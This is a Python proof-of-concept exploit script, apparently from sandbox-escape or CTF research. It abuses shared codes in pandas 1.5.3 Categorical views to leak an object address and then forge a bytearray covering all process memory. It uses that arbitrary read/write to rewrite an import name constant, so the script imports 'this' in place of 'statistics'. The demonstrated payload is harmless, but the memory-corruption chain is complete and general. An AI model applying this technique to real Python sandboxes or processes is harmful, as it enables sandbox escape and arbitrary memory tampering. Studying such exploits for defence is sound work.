# source: pandas 1.5.3 Categorical views share codes (_mixins.py __getitem__ slice), add_categories(inplace=True) reuses them, take_nd (_libs/algos_take_helper) reads categories[code] unchecked; CPython pointer hash (hash(type)/hash(function) = address rotated 4 bits); classic fake-bytearray technique from pyjail/CTF write-ups (e.g. "python sandbox escape fake bytearray arbitrary read write")
# family: shared Categorical codes -> OOB read of int64 (pointer leak) + OOB read of object categories (forged object) -> arbitrary memory read/write -> rewrite an import name constant
# goal: forges a bytearray over all memory, rewrites the constant "statistics" of an import statement to "this", and so imports the module this (prints the Zen of Python)
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


def addr_of(obj):
    # CPython hashes these objects by address, rotated right by 4 bits
    y = hash(obj) & MASK
    return ((y << 4) | (y >> 60)) & MASK


def q(x):
    return (x & MASK).to_bytes(8, "little")


n0 = 130
span = 30000
# a bytearray header: refcount, type, size, alloc, bytes, start, exports
fake_box = q(1 << 40) + q(addr_of(bytearray)) + q((1 << 63) - 1) + q(1) + q(0) + q(0) + q(0) + bytes(64)

# stage 1: the bytes object's address, read out of bounds as int64
catA = pd.Categorical([0] * span, categories=list(range(n0)))
peekA = catA[:]
holders = [np.array([fake_box] * 64, dtype=object) for _ in range(300)]
catA.add_categories(list(range(n0, n0 + span)), inplace=True)
catA[:] = list(range(n0, n0 + span))
leak = pd.Series(np.asarray(peekA))
vc = leak[(leak > 0x500000000000) & (leak < 0x800000000000)].value_counts()
box_addr = int(vc.index[0])
print("bytes object at", hex(box_addr), flush=True)

# stage 2: an object read out of bounds at a word that holds box_addr + 32
T = 140
names = ["c%d" % i for i in range(T + 1)]
spray = [np.full(n0, box_addr + 32) for _ in range(300)]
for k in range(250, 100, -2):
    spray[k] = None                # 1040-byte holes, each followed by a sprayed array
catB = pd.Categorical(["c0"] * 8, categories=names[:n0])
peekB = catB[:]
catB.add_categories(names[n0:], inplace=True)
catB[:] = [names[T]] * 8
mem = np.asarray(peekB)[0]
print("forged object type:", type(mem).__name__, "len", len(mem))


def read64(a):
    return int.from_bytes(mem[a:a + 8], "little")


def write(a, data):
    mem[a:a + len(data)] = data


def go():
    import statistics
    print("the module imported has this.s:", statistics.s[:24])


fn = addr_of(go)                   # function object
code = read64(fn + 48)             # func_code
names = read64(code + 32)          # co_names
s = read64(names + 24)             # co_names[0], the str "statistics"
print("name constant at", hex(s), "length", read64(s + 16), bytes(mem[s + 48:s + 58]))
write(s + 48, b"this\x00")         # the characters
write(s + 16, q(4))                # the length
write(s + 24, q(-1))               # the cached hash
go()
